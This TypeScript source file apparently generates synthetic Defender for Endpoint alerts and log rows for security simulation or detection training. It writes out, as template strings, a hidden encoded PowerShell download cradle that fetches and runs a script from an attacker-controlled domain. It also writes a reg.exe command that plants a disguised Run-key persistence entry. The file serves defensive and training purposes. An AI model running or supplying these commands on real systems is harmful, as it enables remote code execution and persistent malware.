import { type BinaryInfo, fileHashes } from '../files.js';
import { maybeHostile } from '../hostile.js';
import {
  deviceHeader,
  initiatingProcess,
  type ProcessRun,
  subjectProcess,
  userAccount,
} from '../hunting/actors.js';
import type { Rng } from '../prng.js';
import {
  deviceEvidence,
  ipEvidence,
  processEvidence,
  registryKeyEvidence,
  registryValueEvidence,
  urlEvidence,
  userEvidence,
} from './evidence.js';
import type { AlertDraft, Scene } from './scene.js';

/** Defender for Endpoint stories: the alert's process and registry facts are also hunting rows (malware: scenarios-malware.ts). */

const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16';

export function binary(
  seed: number,
  fileName: string,
  folder: string,
  company: string | null,
  size: number,
): BinaryInfo {
  return {
    ...fileHashes(seed, fileName),
    fileName,
    folderPath: `${folder}\\${fileName}`,
    size,
    company: company ?? '',
    commandLine: fileName,
  };
}

export function run(
  rng: Rng,
  image: BinaryInfo,
  commandLine: string,
  time: number,
  parent: BinaryInfo,
): ProcessRun & { parentRun: ProcessRun } {
  const parentRun: ProcessRun = {
    binary: parent,
    commandLine: `"${parent.fileName}" /n`,
    id: rng.int(1000, 60000),
    created: time - rng.int(60_000, 600_000),
    parentFileName: 'explorer.exe',
    parentId: rng.int(500, 9000),
    parentCreated: time - rng.int(3_600_000, 36_000_000),
  };
  return {
    binary: image,
    commandLine,
    id: rng.int(1000, 60000),
    created: time,
    parentFileName: parent.fileName,
    parentId: parentRun.id,
    parentCreated: parentRun.created,
    parentRun,
  };
}

export function endpointBase(scene: Scene, time: number) {
  const ev = { time, verdict: 'suspicious' as const };
  return [
    deviceEvidence(
      { ...ev, roles: [], detailedRoles: ['PrimaryDevice'] },
      scene.tenant,
      scene.machine,
      scene.loggedOn,
    ),
    userEvidence({ ...ev, roles: ['compromised'] }, scene.tenant, scene.user),
  ];
}

/** `powershell.exe -EncodedCommand` launched by Word: a download cradle reaching the attacker's host. */
export function encodedPowerShell(scene: Scene, rng: Rng, time: number, n: number): AlertDraft {
  const ps = binary(
    scene.seed,
    'powershell.exe',
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
    'Microsoft Corporation',
    450_560,
  );
  const word = binary(scene.seed, 'WINWORD.EXE', OFFICE, 'Microsoft Corporation', 1_630_000);
  const url = `http://${scene.attackerDomain}/${rng.hex(6)}.ps1`;
  const payload = `IEX (New-Object Net.WebClient).DownloadString('${url}')`;
  const cmd = maybeHostile(
    scene.hostile,
    n + 4,
    `powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${Buffer.from(payload, 'utf16le').toString('base64')}`,
  );
  const p = run(rng, ps, cmd, time, word);
  const account = userAccount(scene.tenant, scene.user);
  const ev = { time, verdict: 'malicious' as const };
  const netTime = time + rng.int(2_000, 20_000);
  return {
    provider: 'mde',
    title: 'Suspicious PowerShell command line',
    description: `A suspicious PowerShell command line was run on ${scene.machine.computerDnsName}: an encoded command downloaded and ran a script from ${scene.attackerDomain}.`,
    category: 'Execution',
    mitreTechniques: ['T1059.001', 'T1027', 'T1105'],
    severity: 'high',
    serviceSource: 'microsoftDefenderForEndpoint',
    detectionSource: 'microsoftDefenderForEndpoint',
    threatFamilyName: null,
    recommendedActions:
      'Examine the process tree, isolate the device if the script ran, and collect an investigation package.',
    firstActivity: time,
    lastActivity: netTime,
    evidence: [
      ...endpointBase(scene, time),
      processEvidence(
        { ...ev, roles: [], detailedRoles: [] },
        scene.tenant,
        scene.machine,
        scene.user,
        {
          processId: p.id,
          parentProcessId: p.parentId,
          commandLine: cmd,
          created: time,
          parentCreated: p.parentCreated,
          image: ps,
          parentImage: word,
        },
        'detected',
      ),
      urlEvidence({ ...ev, roles: ['commandAndControl'] }, url),
      ipEvidence(
        { ...ev, roles: ['commandAndControl'] },
        scene.attackerIp,
        scene.attackerCountry.countryOrRegion,
      ),
    ],
    rows: [
      {
        table: 'DeviceProcessEvents',
        row: {
          ...deviceHeader(scene.machine, time, 'ProcessCreated'),
          ...subjectProcess(p, account),
          ...initiatingProcess(p.parentRun, account),
          InitiatingProcessSignerType: 'Microsoft',
          InitiatingProcessSignatureStatus: 'Valid',
          ReportId: rng.int(1e5, 1e9),
        },
      },
      {
        table: 'DeviceNetworkEvents',
        row: {
          ...deviceHeader(scene.machine, netTime, 'ConnectionSuccess'),
          RemoteIP: scene.attackerIp,
          RemotePort: 80,
          RemoteUrl: scene.attackerDomain,
          LocalIP: scene.machine.lastIpAddress,
          LocalPort: rng.int(49152, 65535),
          Protocol: 'Tcp',
          LocalIPType: 'Private',
          RemoteIPType: 'Public',
          ...initiatingProcess(p, account),
          ReportId: rng.int(1e5, 1e9),
        },
      },
      {
        table: 'DeviceEvents',
        row: {
          ...deviceHeader(scene.machine, time + 1_000, 'PowerShellCommand'),
          ...initiatingProcess(p, account),
          AdditionalFields: JSON.stringify({ Command: payload }),
          ReportId: rng.int(1e5, 1e9),
        },
      },
    ],
    files: [],
    signIns: [],
  };
}

/** A Run key written with reg.exe: persistence in DeviceProcessEvents and DeviceEvents. */
export function registryPersistence(scene: Scene, rng: Rng, time: number, n: number): AlertDraft {
  const reg = binary(scene.seed, 'reg.exe', 'C:\\Windows\\System32', 'Microsoft Corporation', 73_728);
  const cmdExe = binary(scene.seed, 'cmd.exe', 'C:\\Windows\\System32', 'Microsoft Corporation', 289_792);
  const valueName = rng.pick(['OneDriveUpdate', 'SecurityHealthSvc', 'AdobeSync']);
  const valueData = `C:\\Users\\Public\\${rng.pick(['updater', 'svc', 'helper'])}.exe -silent`;
  const r = {
    hive: 'HKEY_LOCAL_MACHINE' as const,
    key: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
    valueName,
    valueData,
    valueType: 'String',
  };
  const cmd = maybeHostile(
    scene.hostile,
    n + 4,
    `reg.exe add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v ${valueName} /t REG_SZ /d "${valueData}" /f`,
  );
  const p = run(rng, reg, cmd, time, cmdExe);
  const account = userAccount(scene.tenant, scene.user);
  const ev = { time, verdict: 'suspicious' as const };
  return {
    provider: 'mde',
    title: 'Anomaly detected in ASEP registry',
    description: `A process registered ${valueData} to run at startup on ${scene.machine.computerDnsName}.`,
    category: 'Persistence',
    mitreTechniques: ['T1547.001', 'T1112'],
    severity: 'medium',
    serviceSource: 'microsoftDefenderForEndpoint',
    detectionSource: 'microsoftDefenderForEndpoint',
    threatFamilyName: null,
    recommendedActions: 'Remove the Run key value and the binary it points to.',
    firstActivity: time,
    lastActivity: time + 2_000,
    evidence: [
      ...endpointBase(scene, time),
      processEvidence(
        { ...ev, roles: [] },
        scene.tenant,
        scene.machine,
        scene.user,
        {
          processId: p.id,
          parentProcessId: p.parentId,
          commandLine: cmd,
          created: time,
          parentCreated: p.parentCreated,
          image: reg,
          parentImage: cmdExe,
        },
        'detected',
      ),
      registryKeyEvidence({ ...ev, roles: [] }, r),
      registryValueEvidence({ ...ev, roles: [] }, scene.machine, r),
    ],
    rows: [
      {
        table: 'DeviceProcessEvents',
        row: {
          ...deviceHeader(scene.machine, time, 'ProcessCreated'),
          ...subjectProcess(p, account),
          ...initiatingProcess(p.parentRun, account),
          ReportId: rng.int(1e5, 1e9),
        },
      },
      {
        table: 'DeviceEvents',
        row: {
          ...deviceHeader(scene.machine, time + 2_000, 'RegistryValueSet'),
          RegistryKey: r.key,
          RegistryValueName: valueName,
          RegistryValueData: valueData,
          ...initiatingProcess(p, account),
          ReportId: rng.int(1e5, 1e9),
        },
      },
    ],
    files: [],
    signIns: [],
  };
}
